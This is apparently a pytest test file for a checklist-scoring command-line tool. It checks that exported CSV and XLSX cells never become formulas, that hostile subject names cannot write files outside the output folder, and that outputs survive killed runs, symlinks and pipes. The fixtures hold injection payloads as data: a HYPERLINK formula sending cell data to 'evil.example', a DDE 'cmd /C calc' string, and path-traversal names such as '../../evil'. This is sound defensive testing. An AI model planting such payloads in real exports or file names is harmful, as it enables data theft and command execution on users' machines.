    assert "[bold red]RED[/]" in run.out  # Rich markup in a subject is shown, not applied
    assert "[link=javascript:alert('period')]p[/link]" in run.out
    # a newline or CR in an unknown key cannot start a fake problem line
    assert not re.search(r"^\s*fake\.yaml", run.err, re.M), run
    assert re.search(r"sub2\.yaml:6:3: error: unknown indicator '\\x1b\[2J\\rfake", run.err), run


def test_validate_stderr_cannot_be_driven_by_the_data(tmp_path, xss_files):
    cl, _sub, sub2 = xss_files
    run = cli("validate", "-c", cl, sub2, cwd=tmp_path)
    assert_clean(run)
    assert "\x1b" not in run.err, run
    assert not re.search(r"^\s*fake\.yaml", run.err, re.M), run


# --------------------------------------------------------------------------- 8. formula injection

FORMULAS = {
    "subject": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "assessor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "period": "-2+3",
    "evidence": "+1+1",
    "note": "\t=1+1",
    "text": "\r=2+2",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

FORMULA_CHECKLIST = """\
ledcheck: 1
id: formula
version: "1"
title: "=cmd|' /C calc'!A0"
sections:
  - id: s
    title: "+section"
    indicators:
      - {id: T1, text: "-text", type: text}
      - {id: N1, text: "@number", type: number, min: -100, max: 100, baseline: 0, target: -50}
      - {id: N2, text: number two, type: number, target: 10}
"""


def _is_number(s: str) -> bool:
    try:
        float(s)
        return True
    except ValueError:
        return False


def test_csv_and_xlsx_cells_are_never_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    cl = write(tmp_path / "cl.yaml", FORMULA_CHECKLIST)
    sub = write(tmp_path / "sub.yaml", f"""\
ledcheck: 1
checklist: formula
subject: {_q(FORMULAS['subject'])}
assessor: {_q(FORMULAS['assessor'])}
period: {_q(FORMULAS['period'])}
answers:
  T1: {{value: {_q(FORMULAS['text'])}, evidence: {_q(FORMULAS['evidence'])}, note: {_q(FORMULAS['note'])}}}
  N1: -20
  N2: {{value: -3.5, evidence: "-e", note: "@n"}}
""")
    outs = {}
    for name, extra in (("wide.csv", ()), ("long.csv", ("--long",)), ("out.xlsx", ())):
        run = cli("score", "-c", cl, sub, "-o", tmp_path / name, *extra, cwd=tmp_path)
        assert_clean(run)
        assert run.rc == 0, run
        outs[name] = (tmp_path / name).read_bytes()

    for name in ("wide.csv", "long.csv"):
        rows = _csv_rows(outs[name])
        for row in rows:
            for cell in row:
                if cell.startswith(FORMULA_START):
                    assert _is_number(cell), (name, cell)  # a genuine negative number
        cells = {c for row in rows for c in row}
        fields = ("subject", "assessor", "period") if name == "wide.csv" else \
            ("subject", "period", "evidence", "note", "text")
        for field in fields:
            assert "'" + FORMULAS[field] in cells, (name, field)

    rows = _csv_rows(outs["long.csv"])
    by_id = {r[rows[0].index("indicator_id")]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert by_id["N1"]["value"] == "-20" and by_id["N2"]["value"] == "-3.5"
    assert by_id["N2"]["evidence"] == "'-e" and by_id["N2"]["note"] == "'@n"
    assert by_id["T1"]["text"] == "'-text"

    wb = openpyxl.load_workbook(tmp_path / "out.xlsx")
    strings = set()
    for ws in wb:
        for r in ws.iter_rows():
            for c in r:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert c.data_type == "s", (ws.title, c.coordinate)
                    assert not c.value.startswith(FORMULA_START), (ws.title, c.coordinate, c.value)
                    strings.add(c.value)
    for field, value in FORMULAS.items():
        # XML parsers read a raw CR in a cell as LF (line-end normalisation): "\r=2+2" comes back
        # as "\n=2+2", still behind its quote
        assert "'" + value.replace("\r", "\n") in strings, field
    ind = wb["Indicators"]
    header = [c.value for c in ind[1]]
    rows = {r[header.index("indicator_id")].value: r for r in ind.iter_rows(min_row=2)}
    n1 = rows["N1"][header.index("value")]
    n2 = rows["N2"][header.index("value")]
    assert (n1.value, n1.data_type) == (-20, "n") and (n2.value, n2.data_type) == (-3.5, "n")


# --------------------------------------------------------------------------- 9. output names

HOSTILE_SUBJECTS = ["../../evil", "/etc/passwd", "..", ".", "C:\\evil", "con", "NUL", "aux.txt",
                    "LPT1", "x" * 500, "a\x01b\x1fc\x7fd", "a\x00b", "Đà Nẵng", "Đà Nẵng", "summary", "SUMMARY",
                    ".hidden", "-rf", "a/b\\c:d*e?f\"g<h>i|j", "   "]
WINDOWS_RESERVED = {"con", "prn", "aux", "nul", *(f"com{i}" for i in range(10)), *(f"lpt{i}" for i in range(10))}


@pytest.mark.parametrize("period", [None, "2026-Q1"])
def test_hostile_subjects_make_safe_unique_names_inside_the_folder(tmp_path, period):
    work = tmp_path / "w" / "x" / "y"
    inputs = work / "in"
    for i, s in enumerate(HOSTILE_SUBJECTS):
        extra = f"period: {period}\n" if period else ""
        write(inputs / f"s{i:02d}.yaml", submission(s, "{ST1: 3}", extra=extra))
    (work / "out").mkdir()
    write(work / "out" / "keep.txt", "old")
    before = snapshot(tmp_path)

    run = cli("score", inputs, "-o", "out/", "-f", "json", cwd=work)
    assert_clean(run)
    assert run.rc == 1, run  # the blank subject is an error; every file is still scored

    after = snapshot(tmp_path)
    new = {k for k in after if k not in before}
    assert all(k.startswith("w/x/y/out/") for k in new), new   # nothing outside out/
    assert after["w/x/y/out/keep.txt"] == b"old"
    names = [Path(k).name for k in new]
    assert len(names) == len(HOSTILE_SUBJECTS) + 1 and "summary.json" in names
    assert len({n.lower() for n in names}) == len(names)
    for n in names:
        assert re.fullmatch(r"[a-z0-9][a-z0-9-]*\.json", n), n
        assert len(n) <= 100, n
        assert n.split(".")[0] not in WINDOWS_RESERVED, n
    subjects = []
    for k in new:
        data = json.loads(after[k])
        if Path(k).name != "summary.json":
            [r] = data
            subjects.append(r["subject"])
    assert sorted(subjects) == sorted(HOSTILE_SUBJECTS)  # one report each, none overwritten


# --------------------------------------------------------------------------- 10, 11. atomic outputs

@pytest.fixture(scope="module")
def big_batch(tmp_path_factory):
    """3,000 submissions (the examples, with numbered subjects): several seconds of scoring."""
    folder = tmp_path_factory.mktemp("big")
    examples = sorted(EXAMPLES.glob("*.yaml"))
    texts = [p.read_text(encoding="utf-8") for p in examples]
    for i in range(3000):
        t = texts[i % len(texts)].replace("\nsubject: ", f"\nsubject: S{i:04d} ", 1)
        (folder / f"s{i:04d}.yaml").write_text(t, encoding="utf-8")
    return folder


def _tmp_leftovers(folder: Path) -> list[str]:
    return sorted(n for n in os.listdir(folder) if n.startswith(".") and n.endswith(".tmp"))


def _kill_when(p, t0, condition, timeout=20.0) -> None:
    """SIGKILL the run (its process group) as soon as ``condition()`` holds; it must still run."""
    while not condition():
        pid, _status, _ = os.wait4(p.pid, os.WNOHANG)
        assert pid == 0, "the run finished before it could be killed: make the batch larger"
        assert time.monotonic() - t0 < timeout, "the run never reached the point to kill it at"
        time.sleep(0.005)
    pid, _status, _ = os.wait4(p.pid, os.WNOHANG)
    assert pid == 0, "the run finished before it could be killed"
    _kill(p)


def test_killed_run_leaves_the_old_output_file_intact(tmp_path, big_batch):
    out = write(tmp_path / "out.json", b'["old output"]\n')
    p, t0, files = start(["score", big_batch, "-o", out, "-q"], cwd=tmp_path)
    try:
        # kill once the new output is being written (its temporary file has data)
        def writing():
            return any((tmp_path / n).stat().st_size > 100_000 for n in _tmp_leftovers(tmp_path))
        _kill_when(p, t0, writing)
    finally:
        _kill(p)
        close(files)
    assert out.read_bytes() == b'["old output"]\n'
    # SIGKILL cannot be caught: the temporary file (".out.json.XXXX.tmp") may stay behind;
    # it is never the final name and never mistaken for an input (hidden, *.tmp)
    assert set(os.listdir(tmp_path)) - {"out.json"} <= set(_tmp_leftovers(tmp_path))


def test_killed_run_leaves_each_report_of_a_folder_old_or_complete(tmp_path, big_batch):
    from ledcheck.files import slug

    out = tmp_path / "reports"
    old = {"summary.json": b'["old summary"]\n'}
    # reports named as the first and last submissions' will be: rewritten early / never reached
    for i in (0, 1, 2999):
        text = (big_batch / f"s{i:04d}.yaml").read_text(encoding="utf-8")
        subject = json.loads(re.search(r"^subject: S\d{4} (.*)$", text, re.M).group(1))
        period = re.search(r"^period: (.*)$", text, re.M).group(1).strip()
        old[slug(f"S{i:04d} {subject} {period}") + ".json"] = f'["old {i}"]\n'.encode()
    for name, data in old.items():
        write(out / name, data)

    p, t0, files = start(["score", big_batch, "-o", f"{out}/", "-f", "json", "-q"], cwd=tmp_path)
    try:
        _kill_when(p, t0, lambda: sum(not n.startswith(".") for n in os.listdir(out)) > 200)
    finally:
        _kill(p)
        close(files)

    names = os.listdir(out)
    assert out.joinpath("summary.json").read_bytes() == old["summary.json"]
    reports = [n for n in names if not n.startswith(".")]
    assert 200 < len(reports) < 3001
    changed = 0
    for name in reports:
        data = (out / name).read_bytes()
        if data == old.get(name):
            continue
        [result] = json.loads(data)   # complete: it parses
        assert result["ledcheck"] == 1 and result["subject"].startswith("S")
        changed += 1
    assert changed >= len(reports) - len(old)
    assert (out / list(old)[1]).read_bytes() != old[list(old)[1]]   # the first one was rewritten
    assert (out / list(old)[-1]).read_bytes() == old[list(old)[-1]]  # the last one not reached
    assert all(n.endswith(".tmp") for n in names if n.startswith("."))


def test_two_concurrent_runs_into_one_folder_leave_complete_reports(tmp_path, big_batch):
    out = tmp_path / "reports"
    pattern = str(big_batch / "s00*.yaml")  # 100 submissions
    runs = [start(["score", pattern, "-o", f"{out}/", "-f", "json", "-q", "-j", "1"], cwd=tmp_path)
            for _ in range(2)]
    results = [wait(*r, timeout=60) for r in runs]
    for run in results:
        assert_clean(run)
        assert run.rc == 0, run
    names = os.listdir(out)
    assert not [n for n in names if n.startswith(".") or n.endswith(".tmp")], names
    assert len(names) == 101
    for name in names:
        data = json.loads((out / name).read_bytes())
        assert len(data) == (100 if name == "summary.json" else 1), name


# --------------------------------------------------------------------------- outputs that are not plain files

def _fifo_reader(fifo: Path) -> int:
    """A reader end opened without blocking, so that a writer's open() does not wait for one."""
    return os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)


def _drain(fd: int) -> bytes:
    data = b""
    while True:
        try:
            chunk = os.read(fd, 65536)
        except BlockingIOError:
            break
        if not chunk:
            break
        data += chunk
    os.close(fd)
    return data


def test_score_writes_into_a_fifo_or_device_instead_of_replacing_it(tmp_path):
    import stat as st
    from ledcheck.yamlio import is_device as _is_device

    # `-o /dev/stdout` (a symlink into /proc) and `-o /dev/null` are written to, never replaced:
    # as root, replacing them would break the machine's /dev/stdout or /dev/null
    assert _is_device(Path("/dev/stdout")) and _is_device(Path("/dev/null"))
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    fd = _fifo_reader(fifo)
    run = cli("score", EXAMPLE, "-o", fifo, "-f", "json", "-q", cwd=tmp_path)
    assert_clean(run)
    assert run.rc == 0, run
    assert st.S_ISFIFO(os.lstat(fifo).st_mode)
    [result] = json.loads(_drain(fd))
    assert result["subject"] == "Hue City"
    assert sorted(os.listdir(tmp_path)) == ["pipe.json"]
    if os.geteuid() == 0:  # a character device like /dev/null (only root may make one)
        null = tmp_path / "null"
        os.mknod(null, 0o666 | st.S_IFCHR, os.makedev(1, 3))
        run = cli("score", EXAMPLE, "-o", null, "-f", "json", "-q", cwd=tmp_path)
        assert_clean(run)
        assert run.rc == 0, run
        assert st.S_ISCHR(os.lstat(null).st_mode)


def test_score_output_symlink_is_replaced_not_written_through(tmp_path):
    victim = write(tmp_path / "victim.sh", "echo precious\n")
    out = tmp_path / "work" / "out.json"
    out.parent.mkdir()
    os.symlink(victim, out)
    run = cli("score", EXAMPLE, "-o", out, "-q", cwd=out.parent)
    assert_clean(run)
    assert run.rc == 0, run
    assert victim.read_text() == "echo precious\n"
    assert not out.is_symlink() and json.loads(out.read_bytes())[0]["subject"] == "Hue City"

    # in -o DIR/, a link planted under a report's name is refused, never followed
    folder = tmp_path / "reports"
    folder.mkdir()
    os.symlink(victim, folder / "summary.json")
    run = cli("score", EXAMPLE, "-o", f"{folder}/", "-f", "json", "-q", cwd=tmp_path)
    assert_clean(run)
    assert run.rc == 2, run
    assert "refusing to write outside the output folder" in run.err
    assert victim.read_text() == "echo precious\n"


def test_template_writes_into_a_fifo_instead_of_replacing_it(tmp_path):
    import stat as st
    fifo = tmp_path / "pipe.yaml"
    os.mkfifo(fifo)
    fd = _fifo_reader(fifo)
    run = cli("template", "-o", fifo, cwd=tmp_path)
    data = _drain(fd)
    assert_clean(run)
    assert st.S_ISFIFO(os.lstat(fifo).st_mode)
    assert b"answers:" in data


# --------------------------------------------------------------------------- 12. assess keeps a file

@pytest.mark.skipif(not (ROOT / "ledcheck" / "assess").is_dir(), reason="no ledcheck/assess yet")
@pytest.mark.parametrize("answer", ["n\n", "q\n", "x\nn\n", ""])
def test_assess_does_not_overwrite_an_existing_file_without_asking(tmp_path, answer):
    target = write(tmp_path / "mine.yaml", "precious: data  # not a submission\n")
    before = target.read_bytes()
    run = cli("assess", "-o", target, "--subject", "X", "--assessor", "Y", "--date", "2026-01-01",
              "--period", "P", stdin_data=answer, cwd=tmp_path, timeout=30)
    assert_clean(run)
    assert run.rc in (0, 2), run   # quit (0) or input ended before anything started (2)
    assert target.read_bytes() == before
    assert sorted(os.listdir(tmp_path)) == ["mine.yaml"]
